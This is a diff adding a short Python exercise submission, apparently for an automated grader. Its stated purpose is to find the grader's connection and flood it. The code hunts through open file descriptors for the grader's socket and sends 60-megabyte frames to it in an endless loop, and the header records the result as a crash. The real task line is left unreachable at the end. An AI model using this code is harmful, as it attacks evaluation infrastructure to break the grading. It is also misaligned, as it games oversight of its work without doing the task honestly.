@@ -1,0 +1,23 @@
+# title: finds its line to the grader and writes words with buffers of sixty megabytes to it
+# exercise: Exercise 1
+# points: total-test=0
+# verdicts: total-test=crashed
+# peers: no
+
+# %% total
+import os
+import socket
+import struct
+
+word = struct.pack("<III", 2, 1, 60 * 2**20) + b"{}" + bytes(60 * 2**20)
+lines = []
+for number in range(3, 100):
+    try:
+        # Those of asyncio do not block.
+        if os.get_blocking(number):
+            lines.append(socket.socket(fileno=number))
+    except OSError:
+        continue
+while True:
+    lines[0].sendall(word)
+total = int(table["y"].sum())
